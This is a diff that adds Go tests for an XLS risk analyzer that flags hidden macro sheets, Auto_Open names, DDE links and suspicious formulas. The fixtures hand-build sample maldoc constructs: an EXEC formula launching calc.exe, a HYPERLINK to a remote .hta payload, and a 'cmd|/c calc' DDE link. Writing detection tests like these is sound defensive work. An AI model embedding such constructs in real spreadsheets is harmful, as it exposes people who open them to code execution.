@@ -0,0 +1,147 @@
+package xls
+
+import (
+	"bytes"
+	"reflect"
+	"testing"
+)
+
+// TestAnalyze reports a hidden macro sheet with EXEC and a local HYPERLINK, an Auto_Open name,
+// a DDE link and a link to another workbook.
+func TestAnalyze(t *testing.T) {
+	t.Parallel()
+
+	str := func(s string) []byte {
+		return append([]byte{0x17, byte(len(s)), 0}, s...)
+	}
+
+	// ptgFuncVar with one argument
+	call := func(tab uint16) []byte {
+		return append([]byte{0x42, 1}, u16(tab)...)
+	}
+
+	formula := func(row, col uint16, rgce ...[]byte) []byte {
+		tokens := bytes.Join(rgce, nil)
+
+		return biffRecord(0x06, u16(row, col, 15), make([]byte, 14), u16(uint16(len(tokens))), tokens)
+	}
+
+	shared := func(row, col byte, rgce ...[]byte) []byte {
+		tokens := bytes.Join(rgce, nil)
+
+		return biffRecord(0x4BC, u16(uint16(row), uint16(row)+3), []byte{col, col, 0, 4}, u16(uint16(len(tokens))), tokens)
+	}
+
+	choose := []byte{0x19, 0x04, 1, 0, 4, 0, 8, 0}
+
+	stream := bytes.Join([][]byte{
+		biffRecord(0x809, u16(0x600, 0x40), make([]byte, 12)),
+		formula(0, 0, []byte{0x1E, 1, 0}, choose, str("calc.exe"), call(110)),
+		formula(1, 0, str("https://example.com"), call(359)),
+		shared(2, 1, str("FILE://server/share/payload.hta"), call(359)),
+		formula(5, 0, str("SUM"), []byte{0x41}, u16(4)),
+		biffRecord(0x0A),
+	}, nil)
+
+	wb := &WorkBook{rs: bytes.NewReader(stream)}
+	wb.sheets = []*WorkSheet{
+		{wb: wb, Name: "Data"},
+		{wb: wb, bs: &boundsheet{}, Name: "Macro1", Kind: SheetKindMacro, Visibility: WorkSheetHidden},
+		{wb: wb, Name: "Secret", Visibility: WorkSheetVeryHidden},
+	}
+
+	handleName(wb, append([]byte{0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}, 1))
+
+	supBook := func(path string, sheets ...string) []byte {
+		data := append(u16(uint16(len(sheets)), uint16(len(path)), 0)[:5], path...)
+		for _, s := range sheets {
+			data = append(append(data, u16(uint16(len(s)))...), 0)
+			data = append(data, s...)
+		}
+
+		return data
+	}
+
+	handleSupBook(wb, u16(1, 0x0401))
+	handleSupBook(wb, supBook("cmd\x03/c calc"))
+	handleExternName(wb, append([]byte{0, 0, 0, 0, 0, 0, 4, 0}, "item"...))
+	handleSupBook(wb, supBook("\x01\x01C\x03Finance\x03rates.xls", "Rates"))
+
+	r, err := wb.Analyze()
+	if err != nil {
+		t.Fatalf("Analyze() failed: %v", err)
+	}
+
+	want := &RiskReport{
+		MacroSheets: []string{"Macro1"},
+		AutoOpen:    []string{"Auto_Open"},
+		ExternalLinks: []ExternalLink{
+			{Kind: LinkDDE, Target: "cmd|/c calc", Items: []string{"item"}},
+			{Kind: LinkWorkbook, Target: `C:\Finance\rates.xls`},
+		},
+		Formulas: []SuspiciousFormula{
+			{Sheet: "Macro1", Function: "EXEC"},
+			{Sheet: "Macro1", Row: 2, Col: 1, Function: "HYPERLINK"},
+		},
+		HiddenSheets:     []string{"Macro1"},
+		VeryHiddenSheets: []string{"Secret"},
+	}
+
+	if !reflect.DeepEqual(r, want) {
+		t.Errorf("Analyze() = %+v, want %+v", r, want)
+	}
+
+	if !r.Risky() {
+		t.Errorf("Risky() = false")
+	}
+}
+
+func TestAnalyzeFixtures(t *testing.T) {
+	t.Parallel()
+
+	for _, tt := range []struct {
+		file  string
+		risky bool
+	}{
+		{"testdata/times.xls", false},
+		{"testdata/superstore.xls", true},
+	} {
+		wb, err := Open(tt.file)
+		if err != nil {
+			t.Fatalf("failed to open %s: %v", tt.file, err)
+		}
+
+		r, err := wb.Analyze()
+		if err != nil {
+			t.Fatalf("%s: Analyze() failed: %v", tt.file, err)
+		}
+
+		if r.Risky() != tt.risky {
+			t.Errorf("%s: Risky() = %v, want %v: %+v", tt.file, r.Risky(), tt.risky, r)
+		}
+
+		if tt.risky && !reflect.DeepEqual(r.VBAModules, []string{"Module1"}) {
+			t.Errorf("%s: VBAModules = %v", tt.file, r.VBAModules)
+		}
+	}
+}
+
+func TestFilePass(t *testing.T) {
+	t.Parallel()
+
+	for _, tt := range []struct {
+		data []byte
+		want string
+	}{
+		{[]byte{0, 0, 0x34, 0x12, 0x78, 0x56}, "xor"},
+		{[]byte{1, 0, 1, 0, 1, 0}, "rc4"},
+		{[]byte{1, 0, 4, 0, 2, 0}, "cryptoapi"},
+	} {
+		wb := &WorkBook{}
+		handleFilePass(wb, tt.data)
+
+		if wb.encryption != tt.want {
+			t.Errorf("FILEPASS % x: %q, want %q", tt.data, wb.encryption, tt.want)
+		}
+	}
+}